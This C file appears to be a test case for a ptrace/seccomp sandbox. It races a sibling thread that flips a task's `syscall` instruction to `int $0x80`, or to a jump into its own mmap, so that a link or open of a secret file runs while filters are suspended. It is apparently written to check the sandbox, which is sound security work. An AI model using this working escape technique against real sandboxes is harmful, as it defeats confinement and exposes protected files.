/* suspended_insn.c: the instruction a tracer sends a task back to, rewritten by a sibling
 * thread after the tracer read it, while the task's seccomp filters are suspended.
 *
 * Under a seccomp filter of the program's own, the tracer maps its scratch area at a task's
 * first held call by skipping the call and sending the task back to its own `syscall`
 * instruction (the two bytes before its instruction pointer, read and checked) with the mmap
 * in its registers and its filters suspended (PTRACE_O_SUSPEND_SECCOMP: no filter judges what
 * it enters there, the prefilter included).  The instruction is in the program's memory:
 * a sibling thread flips it between `syscall` (0f 05) and `int $0x80` (cd 80).  Read as
 * `syscall`, run as `int $0x80`, the mmap's number 9 is i386 link(ebx, ecx): ebx the
 * program's own register, ecx the return address after the instruction -- where this program
 * keeps a file name.  The link of the secret runs with no filter and no decision.
 *
 *   suspended_insn native SECRET     int $0x80 link of SECRET, natively (the control)
 *   suspended_insn attack SECRET     install an allow-all filter, ignore SIGTRAP (which
 *                                    survives exec: no premap at the exec event), exec
 *                                    the attempts: each a fresh image under the filter,
 *                                    alone until it makes the flipper thread, then one
 *                                    openat of $DECOY from the flipped page (held: the
 *                                    image's first held call), then the next exec
 *   suspended_insn native-writable SECRET   natively, an open from such an area whose path a
 *                                    racer rewrites gets SECRET (that variant's control)
 *   suspended_insn writable SECRET   the same, the instruction flipped to a jump (eb 3e) to
 *                                    code that makes the mmap itself, writable (MAP_FIXED,
 *                                    PROT_READ|PROT_WRITE): taken for the tracer's, the area
 *                                    holds every later copy where the flipper -- now a racer
 *                                    -- rewrites an open's checked path into SECRET's
 * The link's name is "\xeb\x1elnk" in the cwd (its first two bytes a jmp over the rest, to
 * a ret).  Needs a tracer that may suspend filters (CAP_SYS_ADMIN); without it the area is
 * never mapped that way and the attempts run out (BLOCKED).
 */
#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>

#define ATTEMPTS 150
static const char link_name[] = "\xeb\x1elnk";
static volatile uint16_t *insn;
static volatile int go, flipping, racing, writable;
static const char *racer_path;
static void check_link(void);

#define AREA 0x100000000000ULL  /* scratch.BASE */
#define SLOT_SIZE (256 * 1024)
#define PATH1 32

static int flipper(void *arg) {
    (void)arg;
    while (!go) {}
    unsigned k = 0;
    for (;;) {
        if (racing) {  /* the area is the program's: every slot's first path is SECRET */
            for (int slot = 0; slot < 64; slot++)
                strcpy((char *)(uintptr_t)(AREA + (uint64_t)slot * SLOT_SIZE + PATH1),
                       racer_path);
            continue;
        }
        /* int $0x80, or a jump to the page's own mmap / syscall */
        *insn = (k & 1) ? (writable ? 0x3eeb : 0x80cd) : 0x050f;
        for (volatile unsigned i = 0; i < (k * 977) % 64; i++) {}
        k++;
        flipping = 1;
    }
    return 0;
}

/* Whether the scratch area's address holds a writable mapping (this program's own mmap). */
static int area_writable(void) {
    FILE *maps = fopen("/proc/self/maps", "re");
    char line[512];
    int found = 0;
    while (maps && fgets(line, sizeof line, maps))
        if (!strncmp(line, "100000000000-", 13) && strstr(line, " rw-p ")) found = 1;
    if (maps) fclose(maps);
    return found;
}

static unsigned char *make_page(const char *secret) {
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (page == MAP_FAILED) skipped("mmap MAP_32BIT: %s", ename(errno));
    page[0] = 0x0f; page[1] = 0x05;                     /* syscall */
    memcpy(page + 2, link_name, sizeof link_name);      /* ecx's name: jmp +0x1e, "lnk" */
    page[2 + 2 + 0x1e] = 0xc3;                          /* ret */
    strcpy((char *)page + 0x100, secret);               /* ebx's name */
    static const unsigned char own_mmap[] = {
        0xba, 0x03, 0x00, 0x00, 0x00,                   /* mov edx, PROT_READ|PROT_WRITE */
        0x41, 0xba, 0x32, 0x40, 0x00, 0x00,             /* mov r10d, PRIVATE|ANON|FIXED|NORESERVE */
        0x0f, 0x05,                                     /* syscall */
        0xc3};                                          /* ret */
    memcpy(page + 2 + 0x3e, own_mmap, sizeof own_mmap); /* (where jmp +0x3e at 0 lands) */
    insn = (volatile uint16_t *)page;
    return page;
}

/* call the page's instruction (its return: the ret past the name); rcx as `syscall` sets it */
static long run_page(unsigned char *page, long nr, long a1, long a2, long a3) {
    long ret;
    long rcx = (long)(page + 2);
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("call *%[p]"
                     : "=a"(ret), "+c"(rcx)
                     : [p] "r"(page), "0"(nr), "D"(a1), "S"(a2), "d"(a3), "b"(page + 0x100),
                       "r"(r10)
                     : "r11", "memory");
    return ret;
}

static void check_link(void) {
    int fd = open(link_name, O_RDONLY);
    if (fd >= 0 && is_secret_fd(fd))  /* (its name is no UTF-8: not printed) */
        escaped("a link of the secret in the cwd, made by int $0x80");
    if (fd >= 0) close(fd);
}

int main(int argc, char **argv) {
    if (argc < 3) usage("suspended_insn native|native-writable|attack|writable|try|try-writable SECRET");
    const char *secret = argv[2];
    if (!strcmp(argv[1], "native")) {
        unlink(link_name);
        unsigned char *page = make_page(secret);
        *insn = 0x80cd;
        long r = run_page(page, 9, 0, 0, 0);  /* i386 link(ebx, ecx) */
        check_link();
        blocked("int $0x80 link: %ld", r);
    }
    if (!strcmp(argv[1], "native-writable")) {
        /* the kernel reads an open's path when the call runs: a racer's rewrite of a
         * writable buffer at the area's address lands (what "writable" gives a traced run) */
        char *path = mmap((void *)(uintptr_t)AREA, 64 * SLOT_SIZE, PROT_READ | PROT_WRITE,
                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
        if (path == MAP_FAILED) skipped("mmap at the area: %s", ename(errno));
        const char *decoy = getenv("DECOY");
        racer_path = secret;
        static char stack[65536] __attribute__((aligned(16)));
        if (clone(flipper, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES |
                  CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, NULL) < 0)
            skipped("clone: %s", ename(errno));
        for (int i = 0; i < 200000; i++) {
            strcpy(path + PATH1, decoy ? decoy : "/");
            racing = go = 1;
            int fd = open(path + PATH1, O_RDONLY);
            if (fd >= 0 && is_secret_fd(fd))
                escaped("an open of the decoy, its path rewritten in a writable area");
            if (fd >= 0) close(fd);
        }
        blocked("no open got the secret");
    }
    writable = !strcmp(argv[1], "writable") || !strcmp(argv[1], "try-writable");
    if (!strcmp(argv[1], "attack") || !strcmp(argv[1], "writable")) {
        unlink(link_name);
        struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
        struct sock_fprog prog = {1, allow};
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
            prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog))
            skipped("own filter: %s", ename(errno));
        signal(SIGTRAP, SIG_IGN);  /* (survives exec: no premap at the exec event) */
        execl("/proc/self/exe", argv[0], writable ? "try-writable" : "try", secret, "1",
              (char *)NULL);
        skipped("exec: %s", ename(errno));
    }
    if ((strcmp(argv[1], "try") && !writable) || argc < 4) usage("mode");
    /* a fresh image under the filter, alone (its calls are not held) until the flipper: its
     * first held call maps the area, with the filters suspended, from its own instruction --
     * which the flipper rewrites meanwhile; then the next attempt, exec'd */
    int attempt = atoi(argv[3]);
    check_link();
    if (attempt > ATTEMPTS) blocked("%d attempts: no link of the secret", ATTEMPTS);
    const char *decoy = getenv("DECOY");
    unsigned char *page = make_page(secret);
    static char stack[65536] __attribute__((aligned(16)));
    if (clone(flipper, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND |
              CLONE_THREAD | CLONE_SYSVSEM, NULL) < 0)
        skipped("clone: %s", ename(errno));
    go = 1;
    while (!flipping) {}  /* (a new thread runs once the tracer let it go from its first stop) */
    long r;
    int tries = 0;
    do {  /* until the call is made as `syscall` (as int $0x80 it is i386's 257: ENOSYS) */
        r = run_page(page, SYS_openat, AT_FDCWD, (long)(decoy ? decoy : "/"), O_RDONLY);
    } while (r == -ENOSYS && ++tries < 1000000);
    check_link();
    if (writable && area_writable()) {
        racer_path = secret;
        racing = 1;
        for (int i = 0; i < 2000; i++) {
            int fd = open(decoy ? decoy : "/", O_RDONLY);
            if (fd >= 0 && is_secret_fd(fd))
                escaped("a held open of the decoy, its copy rewritten in a writable area");
            if (fd >= 0) close(fd);
        }
        blocked("the area was writable, but no open got the secret");
    }
    char next[16];
    snprintf(next, sizeof next, "%d", attempt + 1);
    execl("/proc/self/exe", argv[0], writable ? "try-writable" : "try", secret, next,
          (char *)NULL);
    blocked("exec: %s", ename(errno));
}
